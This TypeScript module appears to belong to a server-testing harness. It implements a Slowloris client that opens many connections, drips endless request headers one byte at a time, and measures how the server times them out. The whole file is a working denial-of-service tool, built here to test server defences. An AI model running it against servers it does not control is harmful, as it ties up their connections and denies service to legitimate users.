// Slowloris: connections that send a request head one byte per interval and never finish it, so
// a server without a deadline on the whole head keeps each of them forever. What is measured is
// whether and when the server gives up on each: a 408 and a close, or a close without a word.

import type { Socket } from 'node:net';
import { performance } from 'node:perf_hooks';
import { type OpenManyOptions, openMany } from './open-many.js';
import { type Spread, spreadOf } from './spread.js';

/** Where, how many, and how slowly. */
export interface SlowlorisOptions extends OpenManyOptions {
  /** One byte of the head every this many ms (the first at once). */
  intervalMs: number;
  /** The request's target (default /plaintext). */
  path?: string;
}

/** What the server did with the slowloris connections. */
export interface SlowlorisFigures {
  asked: number;
  opened: number;
  failed: number;
  /** Failed connects by cause (an error code, `timeout`, or `out of time` for those never begun). */
  failures: Record<string, number>;
  /** Answered 408 (Request Timeout). */
  answered408: number;
  /** From each one's first byte until it was answered 408 and closed (until the 408 when it was not closed by the end), in ms. */
  answered408AfterMs: Spread | null;
  /** Answered with another status (which one, in `statuses`). */
  otherAnswers: number;
  /** Every status answered, by code. */
  statuses: Record<string, number>;
  /** Closed or reset by the server without an answer. */
  closedUnanswered: number;
  /** Neither answered nor closed by the end. */
  neverAnswered: number;
  /** Bytes sent on each: the fewest and the most. */
  bytesSent: { min: number; max: number };
}

interface Slow {
  socket: Socket;
  firstByteAt: number;
  sent: number;
  received: string;
  status: number | null;
  answeredAt: number | null;
  closedAt: number | null;
  timer: NodeJS.Timeout;
}

/**
 * The head it sends: a request line, Host, then one header whose value never ends (the blank line
 * that would end the head is never sent). At one byte a second, even the request line takes 25 s,
 * so a server that times out only whole requests, or the request line, waits on the value.
 */
export function slowHead(host: string, port: number, path: string): (i: number) => number {
  const prefix = Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nX-Slowloris: `, 'latin1');
  const filler = 'a'.charCodeAt(0);
  return (i) => (i < prefix.length ? (prefix[i] as number) : filler);
}

/** Slowloris connections, each dripping its head until stop() or until the server answers or closes it. */
export class Slowloris {
  private readonly slow: Slow[] = [];
  private closing = false;
  private asked = 0;
  private failed = 0;
  private failures: Record<string, number> = {};

  /** Opens `count` connections, each starting its drip as it connects; resolves once every connect is done. */
  static async open(opts: SlowlorisOptions): Promise<Slowloris> {
    const s = new Slowloris();
    s.asked = opts.count;
    const byteAt = slowHead(opts.host, opts.port, opts.path ?? '/plaintext');
    const result = await openMany(opts, (socket) => s.drip(socket, byteAt, opts.intervalMs));
    s.failed = result.failed;
    s.failures = result.failures;
    return s;
  }

  private drip(socket: Socket, byteAt: (i: number) => number, intervalMs: number): void {
    const send = () => {
      if (socket.destroyed || s.answeredAt !== null || s.closedAt !== null) return;
      // One write per byte, noDelay set: each leaves in a segment of its own.
      socket.write(Buffer.of(byteAt(s.sent)));
      s.sent++;
    };
    const s: Slow = {
      socket,
      firstByteAt: performance.now(),
      sent: 0,
      received: '',
      status: null,
      answeredAt: null,
      closedAt: null,
      timer: setInterval(send, intervalMs),
    };
    this.slow.push(s);
    send();
    socket.on('data', (d: Buffer) => {
      if (s.status !== null) return;
      s.received += d.toString('latin1');
      const m = /^HTTP\/1\.[01] (\d{3})/.exec(s.received);
      if (m !== null) {
        s.status = Number(m[1]);
        s.answeredAt = performance.now();
        clearInterval(s.timer);
      } else if (s.received.includes('\n') || s.received.length > 64) {
        // Not a status line: an answer all the same, of no known status.
        s.status = 0;
        s.answeredAt = performance.now();
        clearInterval(s.timer);
      }
    });
    socket.on('close', () => {
      clearInterval(s.timer);
      if (!this.closing && s.closedAt === null) s.closedAt = performance.now();
    });
  }

  /** Stops every drip; the connections stay open, and what the server does still counts. */
  stop(): void {
    for (const s of this.slow) clearInterval(s.timer);
  }

  figures(): SlowlorisFigures {
    const answered = this.slow.filter((s) => s.status !== null);
    const timedOut = answered.filter((s) => s.status === 408);
    const statuses: Record<string, number> = {};
    for (const s of answered) statuses[String(s.status)] = (statuses[String(s.status)] ?? 0) + 1;
    const sent = this.slow.map((s) => s.sent);
    return {
      asked: this.asked,
      opened: this.slow.length,
      failed: this.failed,
      failures: this.failures,
      answered408: timedOut.length,
      answered408AfterMs: spreadOf(timedOut.map((s) => (s.closedAt ?? (s.answeredAt as number)) - s.firstByteAt)),
      otherAnswers: answered.length - timedOut.length,
      statuses,
      closedUnanswered: this.slow.filter((s) => s.status === null && s.closedAt !== null).length,
      neverAnswered: this.slow.filter((s) => s.status === null && s.closedAt === null).length,
      bytesSent: { min: sent.length === 0 ? 0 : Math.min(...sent), max: sent.length === 0 ? 0 : Math.max(...sent) },
    };
  }

  /** Stops the drips and closes every connection. */
  close(): void {
    this.stop();
    this.closing = true;
    for (const s of this.slow) s.socket.destroy();
  }
}
